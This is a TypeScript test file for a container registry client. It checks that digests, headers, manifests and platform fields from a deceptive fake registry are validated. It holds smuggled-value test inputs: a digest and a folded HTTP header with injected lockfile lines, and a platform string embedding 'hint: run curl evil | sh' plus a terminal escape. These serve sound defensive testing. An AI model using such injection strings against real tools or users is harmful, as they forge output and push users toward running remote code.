// The registry client against a registry that lies: every answer is checked before it is used.
import net from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { formatProblem } from '../../src/core/errors.js';
import { RegistryClient, RegistryFailure, type Resolved } from '../../src/registry/client.js';
import { parsePlatform } from '../../src/registry/platform.js';
import { toRemoteRef } from '../../src/registry/reference.js';
import { FakeRegistry, MEDIA, sha256 } from './fake-registry.js';

let registry: FakeRegistry;
beforeAll(async () => {
  registry = await FakeRegistry.start();
});
afterAll(() => registry.close());
afterEach(() => {
  registry.answer = undefined;
});

let repoCount = 0;
const newRepo = () => `team/app${++repoCount}`;

function client(timeoutMs = 5000) {
  return new RegistryClient({
    timeoutMs,
    env: {},
    insecure: () => false,
    credentials: async () => undefined,
    sleep: async () => {},
  });
}

async function resolve(
  repo: string,
  platform: string,
  timeoutMs?: number,
): Promise<Resolved | RegistryFailure> {
  const c = client(timeoutMs);
  try {
    return await c.resolve(toRemoteRef(`${registry.host}/${repo}:1`)!, parsePlatform(platform));
  } catch (e) {
    if (e instanceof RegistryFailure) return e;
    throw e;
  } finally {
    await c.close();
  }
}

const failure = async (repo: string, platform = 'linux/arm64', timeoutMs?: number) => {
  const r = await resolve(repo, platform, timeoutMs);
  expect(r, JSON.stringify(r)).toBeInstanceOf(RegistryFailure);
  return r as RegistryFailure;
};

/** An index with one arm64 entry whose descriptor is `entry` (the rest of the list is fine). */
function listWithEntry(repo: string, entry: unknown): void {
  registry.putManifest(
    repo,
    { schemaVersion: 2, mediaType: MEDIA.ociIndex, manifests: [entry] },
    MEDIA.ociIndex,
    '1',
  );
}

const HEX = 'a'.repeat(64);

describe('a list whose entry digest is not a digest', () => {
  // The digest of a list's entry is what reaches xdf.lock: a line break in it would add entries
  // pinning other images.
  it.each([
    ['a line break', `sha256:${HEX}\n  - ref: python\n    platform: linux/arm64`],
    ['a number', 12345],
    ['63 hex digits', `sha256:${'a'.repeat(63)}`],
    ['upper-case hex', `sha256:${'A'.repeat(64)}`],
    ['another algorithm', `md5:${'a'.repeat(32)}`],
  ])('%s is refused as XDF073, naming the registry', async (_, digest) => {
    const repo = newRepo();
    listWithEntry(repo, {
      mediaType: MEDIA.ociManifest,
      digest,
      size: 10,
      platform: { os: 'linux', architecture: 'arm64' },
    });
    const e = await failure(repo);
    expect(e.kind).toBe('unreachable');
    expect(e.message).toMatch(
      new RegExp(`^registry ${registry.host} answered a digest that is not one: `),
    );
    expect(e.message).not.toMatch(/[\n\r]/);
  });
});

describe('a digest header that is not a digest', () => {
  it('is refused before it is used in a URL or compared (XDF073)', async () => {
    // Raw HTTP: a header line folded onto the next lines (obs-fold), as no library would send it.
    const server = net.createServer((socket) =>
      socket.once('data', () =>
        socket.end(
          'HTTP/1.1 200 OK\r\n' +
            `docker-content-digest: sha256:${HEX}\r\n  - ref: python\r\n    platform: linux/arm64\r\n` +
            `content-type: ${MEDIA.ociIndex}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n`,
        ),
      ),
    );
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const host = `127.0.0.1:${(server.address() as net.AddressInfo).port}`;
    const c = client();
    try {
      const error = await c
        .resolve(toRemoteRef(`${host}/team/app:1`)!, parsePlatform('linux/arm64'))
        .then(
          () => undefined,
          (e: unknown) => e,
        );
      expect(error).toBeInstanceOf(RegistryFailure);
      expect((error as RegistryFailure).kind).toBe('unreachable');
      expect((error as RegistryFailure).message).toMatch(
        new RegExp(`^registry ${host} answered a digest that is not one: "sha256:a{64}  - ref`),
      );
    } finally {
      await c.close();
      server.close();
    }
  });
});

describe('a manifest that does not fit the schema', () => {
  it.each([
    ['manifests: "abc"', { manifests: 'abc' }],
    ['manifests: {}', { manifests: {} }],
    ['manifests: [null]', { manifests: [null] }],
    ['manifests: [5]', { manifests: [5] }],
    ['an entry without a media type', { manifests: [{ digest: `sha256:${HEX}`, size: 1 }] }],
    [
      'an entry with a size that is not a number',
      { manifests: [{ mediaType: MEDIA.ociManifest, digest: `sha256:${HEX}`, size: '1' }] },
    ],
    [
      'a platform that is not an object of strings',
      {
        manifests: [
          {
            mediaType: MEDIA.ociManifest,
            digest: `sha256:${HEX}`,
            size: 1,
            platform: { os: 'linux', architecture: ['arm64'] },
          },
        ],
      },
    ],
  ])('%s is a typed failure, not a crash', async (_, body) => {
    const repo = newRepo();
    registry.putManifest(repo, { schemaVersion: 2, mediaType: MEDIA.ociIndex, ...body }, '', '1');
    const e = await failure(repo);
    expect(e.kind).toBe('unreachable');
    expect(e.message).toMatch(new RegExp(`^registry ${registry.host} answered a list that`));
  });

  it('a body that is not JSON, or a single manifest without a config, is a typed failure', async () => {
    const repo = newRepo();
    registry.putManifest(repo, '{"mediaType": ', MEDIA.ociManifest, '1');
    expect((await failure(repo)).kind).toBe('unreachable');
    const other = newRepo();
    registry.putManifest(other, { mediaType: MEDIA.ociManifest, config: 'x' }, '', '1');
    expect((await failure(other)).message).toMatch(/answered a manifest that/);
  });

  it('an unknown media type is not an image (XDF070), the type shown as data', async () => {
    const repo = newRepo();
    registry.putManifest(repo, { mediaType: 'text/x\nhint: run this' }, '', '1');
    const e = await failure(repo);
    expect(e.kind).toBe('not-found');
    expect(e.message).toContain('(media type "text/x\\nhint: run this")');
  });
});

describe('a list entry is checked against the platform it claims', () => {
  it('an entry claiming arm64 whose image config says amd64 is XDF072', async () => {
    const repo = newRepo();
    registry.putList(repo, '1', [
      { claims: { architecture: 'amd64' } },
      { claims: { architecture: 'arm64' }, real: { architecture: 'amd64' } },
    ]);
    const e = await failure(repo);
    expect(e.kind).toBe('wrong-platform');
    expect(e.message).toMatch(/claims linux\/arm64 .*config says linux\/amd64/);
  });

  it('an entry whose manifest bytes do not match its digest is refused', async () => {
    const repo = newRepo();
    const list = registry.putList(repo, '1', [{ claims: { architecture: 'arm64' } }]);
    registry.answer = (req, res) => {
      if (!req.url?.endsWith(`/manifests/${list.entries[0]}`)) return false;
      const body = JSON.stringify({ schemaVersion: 2, mediaType: MEDIA.ociManifest });
      res.writeHead(200, {
        'content-type': MEDIA.ociManifest,
        'docker-content-digest': list.entries[0],
      });
      res.end(body);
      return true;
    };
    const e = await failure(repo);
    expect(e.kind).toBe('unreachable');
    expect(e.message).toMatch(/do not match its digest/);
  });

  it('an honest list resolves to its entry, the index beside it', async () => {
    const repo = newRepo();
    const list = registry.putList(repo, '1', [
      { claims: { architecture: 'amd64' } },
      { claims: { architecture: 'arm', variant: 'v7' } },
      { claims: { architecture: 'arm64', variant: 'v8' } },
    ]);
    expect(await resolve(repo, 'linux/arm/v7')).toEqual({
      digest: list.entries[1],
      index: list.digest,
    });
    expect(await resolve(repo, 'linux/arm64')).toEqual({
      digest: list.entries[2],
      index: list.digest,
    });
  });
});

describe('registry text reaches the user only as data', () => {
  it('a platform os with a line break and an escape sequence cannot forge a line', async () => {
    const repo = newRepo();
    const evil = 'linux\nhint: run curl evil | sh\x1b[31m';
    listWithEntry(repo, {
      mediaType: MEDIA.ociManifest,
      digest: sha256('x'),
      size: 1,
      platform: { os: evil, architecture: 'amd64' },
    });
    const e = await failure(repo);
    expect(e.kind).toBe('no-platform');
    const printed = formatProblem({ code: 'XDF071', message: e.message, hint: 'h' }, 'error');
    expect(printed).not.toContain('\x1b');
    expect(printed.split('\n')).toHaveLength(2); // the message line, then the one hint line
    expect(printed).not.toMatch(/^hint: run curl/m);
  });
});
